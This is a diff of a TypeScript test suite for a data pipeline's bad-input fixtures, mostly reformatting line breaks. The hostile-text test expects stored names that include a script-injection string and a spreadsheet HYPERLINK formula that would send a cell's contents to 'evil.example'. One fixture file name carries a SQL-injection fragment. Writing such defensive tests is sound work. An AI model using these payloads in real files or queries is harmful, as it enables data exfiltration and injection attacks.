@@ -35,9 +35,7 @@ interface Rejection {
   reason: RegExp;
 }
 
-type Expected =
-  | { status: 'failed'; message: RegExp }
-  | { status: 'loaded'; rows: number; rejected?: Rejection[]; note?: RegExp };
+type Expected = { status: 'failed'; message: RegExp } | { status: 'loaded'; rows: number; rejected?: Rejection[]; note?: RegExp };
 
 interface Case {
   file: string;
@@ -48,7 +46,8 @@ interface Case {
 
 const failed = (message: RegExp): Expected => ({ status: 'failed', message });
 const loaded = (rows: number, rejected: Rejection[] = [], note?: RegExp): Expected => ({ status: 'loaded', rows, rejected, ...(note ? { note } : {}) });
-const UNKNOWN = /is not a format the pipeline knows: its header matches none of .*ambassador roster \(program\.ambassadors\).*force a format with --source NAME/;
+const UNKNOWN =
+  /is not a format the pipeline knows: its header matches none of .*ambassador roster \(program\.ambassadors\).*force a format with --source NAME/;
 const NOT_TEXT = /is not a text or spreadsheet file; drop the CSV or Excel export itself into the inbox/;
 const BAD_WORKBOOK = /looks like an Excel workbook but cannot be opened \(.+\); open it in Excel and save it again, or export it as CSV/;
 
@@ -57,9 +56,20 @@ const CASES: Case[] = [
   { file: 'header-only.csv', expected: loaded(0, [], /has a header and no rows under it \(line 1\)/) },
   { file: 'binary-data.bin', expected: failed(NOT_TEXT) },
   { file: 'gzip-compressed-roster.csv.gz', expected: failed(NOT_TEXT) },
-  { file: 'pdf-renamed-to-csv.csv', expected: failed(/^pdf-renamed-to-csv\.csv is a PDF, whose tables the pipeline cannot read; download the report's data as CSV or Excel/) },
-  { file: 'cut-off-mid-quote.csv', expected: loaded(8, [{ line: 10, field: null, reason: /quoted value on line 10 is not closed properly; the file is cut off, or a quote inside a value is not doubled/ }]) },
-  { file: 'unclosed-quote-mid-file.csv', expected: loaded(7, [{ line: 9, field: null, reason: /opens on line 9 and is never closed, so lines 9 to 10 ran together/ }]) },
+  {
+    file: 'pdf-renamed-to-csv.csv',
+    expected: failed(/^pdf-renamed-to-csv\.csv is a PDF, whose tables the pipeline cannot read; download the report's data as CSV or Excel/),
+  },
+  {
+    file: 'cut-off-mid-quote.csv',
+    expected: loaded(8, [
+      { line: 10, field: null, reason: /quoted value on line 10 is not closed properly; the file is cut off, or a quote inside a value is not doubled/ },
+    ]),
+  },
+  {
+    file: 'unclosed-quote-mid-file.csv',
+    expected: loaded(7, [{ line: 9, field: null, reason: /opens on line 9 and is never closed, so lines 9 to 10 ran together/ }]),
+  },
   { file: 'wrong-delimiter-colon.csv', expected: failed(UNKNOWN) },
   { file: 'utf16le-without-bom.csv', expected: loaded(8) },
   { file: 'utf16be-without-bom.csv', expected: loaded(8) },
@@ -72,7 +82,10 @@ const CASES: Case[] = [
   { file: 'html-page-saved-as-csv.csv', expected: failed(UNKNOWN) },
   { file: 'extra-columns.csv', expected: loaded(2) },
   { file: 'missing-optional-columns.csv', expected: loaded(2) },
-  { file: 'missing-required-column.csv', expected: failed(/has no column "period_end" in its header on line 1, and a program goals file needs it; export the file again with that column/) },
+  {
+    file: 'missing-required-column.csv',
+    expected: failed(/has no column "period_end" in its header on line 1, and a program goals file needs it; export the file again with that column/),
+  },
   {
     file: 'impossible-dates.csv',
     expected: loaded(8, [
@@ -84,7 +97,11 @@ const CASES: Case[] = [
   {
     file: 'future-dates.csv',
     expected: loaded(9, [
-      { line: 11, field: 'touched_at', reason: /"2099-01-01T09:00:00Z" in touched_at is after tomorrow \(\d{4}-\d\d-\d\d\), and an export only holds what already happened/ },
+      {
+        line: 11,
+        field: 'touched_at',
+        reason: /"2099-01-01T09:00:00Z" in touched_at is after tomorrow \(\d{4}-\d\d-\d\d\), and an export only holds what already happened/,
+      },
       { line: 12, field: 'touched_at', reason: /is after tomorrow/ },
     ]),
   },
@@ -110,18 +127,33 @@ const CASES: Case[] = [
       { line: 15, field: 'sessions', reason: /"#DIV\/0!" in Sessions is not a whole number/ },
     ]),
   },
-  { file: 'duplicate-natural-keys.csv', expected: loaded(8, [{ line: 10, field: 'ambassador_id', reason: /the same ambassador_id is already on line 4 of this file; the first one is kept/ }]) },
+  {
+    file: 'duplicate-natural-keys.csv',
+    expected: loaded(8, [{ line: 10, field: 'ambassador_id', reason: /the same ambassador_id is already on line 4 of this file; the first one is kept/ }]),
+  },
   { file: 'roster-unknown-lead.csv', expected: loaded(9) },
-  { file: 'goal-end-before-start.csv', expected: loaded(4, [{ line: 6, field: 'period_end', reason: /period_end is before period_start; swap or correct the dates/ }]) },
+  {
+    file: 'goal-end-before-start.csv',
+    expected: loaded(4, [{ line: 6, field: 'period_end', reason: /period_end is before period_start; swap or correct the dates/ }]),
+  },
   { file: 'ragged-rows.csv', expected: loaded(8, [{ line: 10, field: null, reason: /the row has 17 fields where the header has 14/ }]) },
   { file: 'nul-byte-in-text.csv', expected: loaded(8, [{ line: 10, field: null, reason: /name holds a NUL character \(byte 0\), which no export writes/ }]) },
-  { file: 'too-many-bad-rows.csv', expected: failed(/12 of 16 rows cannot be loaded \(more than the 20% allowed by ingest\.max_rejected_share\), so the file was not loaded; the first is line 6: "maybe" in is_leader is not true or false/) },
+  {
+    file: 'too-many-bad-rows.csv',
+    expected: failed(
+      /12 of 16 rows cannot be loaded \(more than the 20% allowed by ingest\.max_rejected_share\), so the file was not loaded; the first is line 6: "maybe" in is_leader is not true or false/,
+    ),
+  },
   { file: 'corrupt-workbook.xlsx', expected: failed(BAD_WORKBOOK) },
   { file: 'truncated-workbook.xlsx', expected: failed(BAD_WORKBOOK) },
   { file: 'corrupt-old-excel.xls', expected: failed(BAD_WORKBOOK) },
   { file: "it's; drop table x.csv", expected: loaded(3) },
   { file: 'hostile-text.csv', expected: loaded(4) },
-  { file: 'personal-data-without-salt.csv', noSalt: true, expected: failed(/holds e-mails or names of leads or candidates, and no hashing salt is set; add "salt:" to the config or set ADVOCACY_SALT/) },
+  {
+    file: 'personal-data-without-salt.csv',
+    noSalt: true,
+    expected: failed(/holds e-mails or names of leads or candidates, and no hashing salt is set; add "salt:" to the config or set ADVOCACY_SALT/),
+  },
 ];
 
 async function count(warehouse: Warehouse, sql: string): Promise<number> {
@@ -191,7 +223,9 @@ describe('fixtures/bad: the bad-input corpus', () => {
         { name: 'Ørjan Dahl', n: 3 },
       ]);
       await ingestFile(warehouse, config, join(BAD, 'hostile-text.csv'), { runId: null, log: memoryLogger() });
-      const hostile = await warehouse.all<{ name: string }>(`select name from raw.program__ambassadors where _source_file = 'hostile-text.csv' order by ambassador_id`);
+      const hostile = await warehouse.all<{ name: string }>(
+        `select name from raw.program__ambassadors where _source_file = 'hostile-text.csv' order by ambassador_id`,
+      );
       expect(hostile.map((row) => row.name)).toEqual([
         '<script>alert(1)</script>',
         '=HYPERLINK("http://evil.example/?"&A1;"click")',
@@ -216,7 +250,9 @@ describe('fixtures/bad: the bad-input corpus', () => {
         `select line, reason, length(raw)::integer as raw_length from meta.rejected_rows`,
       );
       expect(row!.line).toBe(3);
-      expect(row!.reason).toMatch(new RegExp(`linkedin_headline holds 10,485,760 characters, more than any export writes \\(${MAX_CELL_CHARS.toLocaleString('en')}\\)`));
+      expect(row!.reason).toMatch(
+        new RegExp(`linkedin_headline holds 10,485,760 characters, more than any export writes \\(${MAX_CELL_CHARS.toLocaleString('en')}\\)`),
+      );
       expect(row!.raw_length).toBeLessThan(2100);
     });
   });
@@ -243,11 +279,15 @@ describe('fixtures/bad: the bad-input corpus', () => {
       options,
     );
     expect(touches.rows.map((row) => row.values.visitor_id)).toEqual(['v1', 'v3']);
-    expect(touches.rejected).toEqual([expect.objectContaining({ line: 3, field: 'touched_at', reason: expect.stringMatching(/is after tomorrow \(2026-06-02\)/) })]);
+    expect(touches.rejected).toEqual([
+      expect.objectContaining({ line: 3, field: 'touched_at', reason: expect.stringMatching(/is after tomorrow \(2026-06-02\)/) }),
+    ]);
 
     // An open deal's close date and a roster's start date may be in the future.
     const deals = parseFile(
-      new TextEncoder().encode('Record ID,Deal Stage,Amount,Close Date,Create Date\n1,Contract sent,100,2026-12-01 10:00,2026-05-01 10:00\n2,Contract sent,100,2026-12-01 10:00,2026-07-01 10:00\n'),
+      new TextEncoder().encode(
+        'Record ID,Deal Stage,Amount,Close Date,Create Date\n1,Contract sent,100,2026-12-01 10:00,2026-05-01 10:00\n2,Contract sent,100,2026-12-01 10:00,2026-07-01 10:00\n',
+      ),
       crmHubspotDeals,
       options,
     );
@@ -282,7 +322,13 @@ describe('fixtures/bad: the bad-input corpus', () => {
       });
     const bytes = new TextEncoder().encode('day,change\n2026-01-01,5\n2026-01-02,-3\n');
     const options = { fileName: 'x.csv', folderName: 'x', timezone: 'UTC', locale: 'da-DK', salt: null };
-    expect(parseFile(bytes, adapter(false), options).rejected).toEqual([expect.objectContaining({ line: 3, field: 'change', reason: '"-3" in change is negative, and a count cannot be; correct the value or export the file again' })]);
+    expect(parseFile(bytes, adapter(false), options).rejected).toEqual([
+      expect.objectContaining({
+        line: 3,
+        field: 'change',
+        reason: '"-3" in change is negative, and a count cannot be; correct the value or export the file again',
+      }),
+    ]);
     expect(parseFile(bytes, adapter(true), options).rows.map((row) => row.values.change)).toEqual([5, -3]);
   });
 
@@ -296,7 +342,9 @@ describe('fixtures/bad: the bad-input corpus', () => {
       ]);
       const result = await checkWarehouse(warehouse);
       expect(result.problems).toEqual([]);
-      expect(result.warnings).toEqual([expect.stringMatching(/the roster names A999 as the lead of A009, and no ambassador has that id; correct lead_id in the roster/)]);
+      expect(result.warnings).toEqual([
+        expect.stringMatching(/the roster names A999 as the lead of A009, and no ambassador has that id; correct lead_id in the roster/),
+      ]);
     });
   });
 
@@ -305,7 +353,8 @@ describe('fixtures/bad: the bad-input corpus', () => {
     const expected: Record<string, RegExp> = {
       'missing-company.yaml': /^Config key company is missing in .*; it must be an object\.$/,
       'not-yaml.yaml': /^The config file .*not-yaml\.yaml is not valid YAML: .*line 3/,
-      'path-escapes-project.yaml': /^Config key paths\.warehouse: "\.\.\/\.\.\/elsewhere\/advocacy\.duckdb" leads outside the config's folder .*; use a path inside it, or an absolute path if you mean it\.$/,
+      'path-escapes-project.yaml':
+        /^Config key paths\.warehouse: "\.\.\/\.\.\/elsewhere\/advocacy\.duckdb" leads outside the config's folder .*; use a path inside it, or an absolute path if you mean it\.$/,
       'salt-too-short.yaml': /^Config key salt has the value "abc" in .*, which is not allowed; it must be at least 8 characters\.$/,
       'unknown-key.yaml': /^Unknown config key attribution\.lookback_dayz in .*; did you mean `attribution\.lookback_days`\?$/,
       'wrong-type-lock-wait.json': /^Config key lock\.wait_seconds has the value "forever" in .*, which is not allowed; it must be a number\.$/,
@@ -328,7 +377,9 @@ describe('fixtures/bad: the bad-input corpus', () => {
     // No salt here: the one file with personal data fails too, and says why.
     const failures = CASES.filter((one) => one.expected.status === 'failed' || one.noSalt);
     for (const { file } of failures) expect(ingest.stderr).toContain(`error: ${file}`);
-    expect(ingest.stdout).toMatch(new RegExp(`files: ${CASES.length - failures.length} loaded, 0 already loaded \\(nothing to do\\), ${failures.length} failed`));
+    expect(ingest.stdout).toMatch(
+      new RegExp(`files: ${CASES.length - failures.length} loaded, 0 already loaded \\(nothing to do\\), ${failures.length} failed`),
+    );
 
     const check = spawnSync(process.execPath, [BIN, 'check'], { cwd, encoding: 'utf8', env });
     expect(check.stderr).not.toMatch(STACK_TRACE);
